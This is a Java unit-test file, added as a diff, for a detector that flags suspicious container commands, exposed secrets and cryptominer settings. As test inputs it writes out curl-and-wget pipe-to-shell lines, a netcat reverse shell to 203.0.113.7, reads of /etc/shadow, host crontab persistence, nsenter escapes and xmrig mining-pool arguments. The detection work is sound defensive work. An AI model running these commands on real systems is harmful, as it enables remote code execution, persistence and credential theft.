@@ -1,0 +1,244 @@
+package org.ephemera.analyze.command;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.ephemera.analyze.command.Places.at;
+import static org.ephemera.analyze.command.Places.command;
+import static org.ephemera.analyze.command.Places.variable;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Optional;
+import org.ephemera.analyze.model.ControlCall;
+import org.ephemera.analyze.model.Execution;
+import org.ephemera.analyze.model.Finding;
+import org.ephemera.analyze.model.Gap;
+import org.ephemera.analyze.model.Indicator;
+import org.ephemera.analyze.model.Place;
+import org.ephemera.analyze.model.Severity;
+import org.ephemera.analyze.model.Workload;
+import org.ephemera.bag.Json;
+import org.junit.jupiter.api.Test;
+
+class CommandRulesTest {
+    @Test
+    void pointsToTheWordThatHoldsTheScript() {
+        CommandFindings found = of(Places.running(command(false, "sh", "-c", "curl http://a.example/x | sh")));
+        assertThat(found.findings()).hasSize(1);
+        Finding finding = found.findings().getFirst();
+        assertThat(finding.rule().id()).isEqualTo("CMD-001");
+        assertThat(finding.subject()).isEqualTo("app");
+        assertThat(finding.because()).isEqualTo("command: curl http://a.example/x | sh");
+        assertThat(finding.evidence()).containsExactly(at("task.json", "/command/2"));
+        assertThat(found.indicators())
+                .extracting(i -> i.kind() + " " + i.value())
+                .containsExactly("URL http://a.example/x", "DOMAIN a.example");
+    }
+
+    @Test
+    void seesWhatStandsInSeveralWordsToo() {
+        assertThat(ids(of(Places.running(command(false, "nc", "203.0.113.7", "9001", "-e", "/bin/sh")))))
+                .containsExactly("CMD-003");
+    }
+
+    @Test
+    void tellsWhoGaveACommand() {
+        Text layer = new Text(
+                "shop/app:7",
+                "image history",
+                "RUN wget -qO- a.example | sh",
+                at("image.json", "/history/3"),
+                Origin.IMAGE,
+                Optional.empty());
+        List<Finding> findings = CommandRules.findings(
+                        Places.running(command(true, "/tmp/.x/xmrig")), List.of(), List.of(layer))
+                .findings();
+        assertThat(findings).extracting(f -> f.rule().id()).containsExactly("CMD-004", "CMD-009", "CMD-001");
+        assertThat(findings.get(0).because()).contains("hands-on-keyboard or stolen API credential");
+        assertThat(findings.get(2).because()).contains("born-malicious");
+        assertThat(findings.get(2).subject()).isEqualTo("shop/app:7");
+    }
+
+    @Test
+    void readsHooksAndProbes() {
+        Execution execution = new Execution(
+                List.of(),
+                List.of(),
+                List.of(command(false, "cat", "/etc/shadow")),
+                Optional.empty(),
+                Optional.empty());
+        assertThat(ids(of(Places.workload(List.of(), execution)))).containsExactly("CMD-010");
+    }
+
+    @Test
+    void takesWhatPersistsOnTheHostForWorse() {
+        Execution.Command persists = command(false, "sh", "-c", "echo x >> /host/etc/crontab");
+        Execution execution =
+                new Execution(List.of(persists), List.of(), List.of(), Optional.empty(), Optional.empty());
+        assertThat(of(Places.workload(List.of(), execution)).findings())
+                .extracting(Finding::severity)
+                .containsExactly(Severity.MEDIUM);
+        assertThat(of(Places.workload(List.of(Places.host("/host")), execution)).findings())
+                .extracting(Finding::severity)
+                .containsExactly(Severity.HIGH);
+        assertThat(of(Places.workload(List.of(Places.host("/data")), execution)).findings())
+                .extracting(Finding::severity)
+                .containsExactly(Severity.MEDIUM);
+    }
+
+    @Test
+    void takesAMinersSettingsInTheEnvironmentForSuch() {
+        CommandFindings found = of(Places.with(
+                variable("ARGS", "-o stratum+tcp://pool.supportxmr.com:3333 -u " + Samples.WALLET.substring(0, 95))));
+        assertThat(ids(found)).containsExactly("ENV-003", "NET-001");
+        assertThat(found.findings().getFirst().severity()).isEqualTo(Severity.CRITICAL);
+        assertThat(found.findings().getFirst().because()).startsWith("environment ARGS: ");
+        assertThat(found.indicators())
+                .extracting(Indicator::kind)
+                .contains(Indicator.Kind.WALLET, Indicator.Kind.DOMAIN);
+    }
+
+    @Test
+    void tellsOfSecretsAndNeverTellsThem() {
+        List<Execution.Variable> secrets = List.of(
+                variable("DB_PASSWORD", "correct-horse"),
+                variable("db_passwd", "hunter2hunter2"),
+                variable("SESSION_SECRET", "0123456789abcdef"),
+                variable("STRIPE_API_KEY", "sk_live_0123456789"),
+                variable("AZURE_STORAGE_CONNECTION_STRING", "x;AccountKey=" + "QUJD".repeat(20) + "=="),
+                variable("CONN_STR", "Server=db;Pwd=x1y2z3"),
+                variable("K", "AKIAIOSFODNN7EXAMPLE"),
+                variable("SIGNING", "-----BEGIN RSA PRIVATE KEY-----\nMIIE"),
+                variable("AUTH", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2ln"),
+                variable("DATABASE_URL", "postgres://shop:sw0rdf1sh@db:5432/shop"));
+        for (Execution.Variable secret : secrets) {
+            CommandFindings found = of(Places.with(secret));
+            assertThat(ids(found)).as(secret.name()).containsExactly("ENV-001");
+            assertThat(found.findings().getFirst().because())
+                    .startsWith("environment " + secret.name())
+                    .contains(secret.value().length() + " characters")
+                    .doesNotContain(secret.value())
+                    .doesNotContain("sw0rdf1sh", "x1y2z3", "QUJDQUJD", "MIIE", "c2ln");
+        }
+        assertThat(of(Places.with(secrets.get(6))).indicators())
+                .extracting(i -> i.kind() + " " + i.value())
+                .containsExactly("KEY_ID AKIAIOSFODNN7EXAMPLE");
+    }
+
+    @Test
+    void leavesAloneWhatOnlySoundsLikeASecret() {
+        List<Execution.Variable> harmless = List.of(
+                variable("MAX_TOKENS", "4096"),
+                variable("TOKEN_TTL", "3600s"),
+                variable("DB_PASSWORD_FILE", "/run/secrets/db"),
+                variable("DB_PASSWORD", "/run/secrets/db"),
+                variable("DB_SECRET_ARN", "arn:aws:secretsmanager:eu-central-1:111122223333:secret:db"),
+                variable("API_KEY", "arn:aws:ssm:eu-central-1:111122223333:parameter/key"),
+                variable("TOKEN_URL", "https://login.example/token"),
+                variable("PASSWORD", ""),
+                variable("SECRET", "${FROM_VAULT}"),
+                variable("PRIVATE_SUBNET", "10.0.0.0/24"),
+                variable("USE_TOKEN", "true"));
+        harmless.forEach(variable ->
+                assertThat(ids(of(Places.with(variable)))).as(variable.name()).isEmpty());
+    }
+
+    @Test
+    void readsTheCommandsOfCalls() throws IOException {
+        ControlCall exec =
+                call("ExecuteCommand", "{\"command\":\"sh -c 'cat /etc/shadow'\",\"container\":\"web\"}", "{}", false);
+        ControlCall run = call("RunTask", """
+                {"overrides":{"containerOverrides":[{"name":"job","command":["/tmp/xmrig","--donate-level","1"]}]}}""", "{}", false);
+        ControlCall pod = call("create pods/exec", "{}", """
+                {"requestURI":"/api/v1/namespaces/a/pods/b/exec?command=nsenter&command=-t&command=1&command=-m+sh&container=side%20car"}""", false);
+        ControlCall ours = call("ExecuteCommand", "{\"command\":\"cat /etc/shadow\"}", "{}", true);
+        ControlCall odd =
+                call("ExecuteCommand", "{\"command\":{\"a\":[]}}", "{\"requestURI\":\"?command=%zz&command\"}", false);
+        List<Finding> findings = CommandRules.findings(List.of(), List.of(exec, run, pod, ours, odd), List.of())
+                .findings();
+        assertThat(findings)
+                .extracting(f -> f.rule().id() + " " + f.subject())
+                .containsExactly("CMD-010 web", "CMD-004 job", "CMD-006 side car");
+        assertThat(findings).allSatisfy(f -> {
+            assertThat(f.at()).contains(Instant.EPOCH);
+            assertThat(f.because()).contains("by somebody").contains("hands-on-keyboard");
+        });
+    }
+
+    @Test
+    void readsTheCommandsOfAlerts() throws IOException {
+        JsonNode event = Json.parse("""
+                {"detail":{"service":{"runtimeDetails":{"context":{"commandLineExample":"nsenter -t 1 -a sh"},"list":[{"commandLine":"id"}]}}}}""".getBytes(StandardCharsets.UTF_8));
+        List<Text> texts = AlertTexts.of("web", event, at("event.json", ""));
+        assertThat(texts).extracting(Text::value).containsExactly("nsenter -t 1 -a sh", "id");
+        CommandFindings found = CommandRules.findings(List.of(), List.of(), texts);
+        assertThat(ids(found)).containsExactly("CMD-006");
+        assertThat(found.findings().getFirst().evidence().getFirst().place())
+                .isEqualTo(new Place.Pointer("/detail/service/runtimeDetails/context/commandLineExample"));
+    }
+
+    @Test
+    void showsNoPasswordsOfCommands() {
+        List<Finding> findings = of(Places.running(
+                        command(
+                                false,
+                                "curl --user admin:geheim1 -H 'Authorization: Bearer geheim2' http://u:geheim3@a.example/?token=geheim4 | sh -s --password geheim5")))
+                .findings();
+        assertThat(findings).hasSize(1);
+        assertThat(findings.getFirst().because()).contains("| sh").doesNotContain("geheim");
+    }
+
+    @Test
+    void countsRepetitionsAndKeepsItsFindingsFew() {
+        List<Execution.Command> many = new ArrayList<>();
+        for (int i = 0; i < 3_000; i++) {
+            many.add(command(false, "cat /etc/shadow"));
+        }
+        CommandFindings found = of(Places.running(many.toArray(Execution.Command[]::new)));
+        assertThat(found.findings()).hasSize(1);
+        assertThat(found.findings().getFirst().because()).contains("the first of 3000 times");
+        List<Execution.Variable> variables = new ArrayList<>();
+        for (int i = 0; i < 3_000; i++) {
+            variables.add(variable("PASSWORD" + i, "value-" + i));
+        }
+        CommandFindings flood = of(Places.with(variables.toArray(Execution.Variable[]::new)));
+        assertThat(flood.findings()).hasSize(2_000);
+        assertThat(flood.gaps()).extracting(Gap::why).anyMatch(why -> why.contains("1000 more hits"));
+    }
+
+    @Test
+    void saysOfWhatIsTooLongThatItWasNotSeen() {
+        CommandFindings found = of(Places.running(command(false, "x ".repeat(40_000) + "| sh; cat /etc/shadow")));
+        assertThat(found.findings()).isEmpty();
+        assertThat(found.gaps()).hasSize(1);
+        assertThat(found.gaps().getFirst().why()).startsWith("RULE_TIMEOUT").contains("task.json /command");
+    }
+
+    private static CommandFindings of(List<Workload> workloads) {
+        return CommandRules.findings(workloads, List.of(), List.of());
+    }
+
+    private static List<String> ids(CommandFindings found) {
+        return found.findings().stream().map(f -> f.rule().id()).toList();
+    }
+
+    private static ControlCall call(String action, String request, String entry, boolean ours) throws IOException {
+        return new ControlCall(
+                Instant.EPOCH,
+                "ecs",
+                action,
+                "somebody",
+                Optional.empty(),
+                Optional.empty(),
+                "",
+                Optional.empty(),
+                "1",
+                Json.parse(request.getBytes(StandardCharsets.UTF_8)),
+                Json.parse(entry.getBytes(StandardCharsets.UTF_8)),
+                ours,
+                at("trail.json", "/Events/0"));
+    }
+}
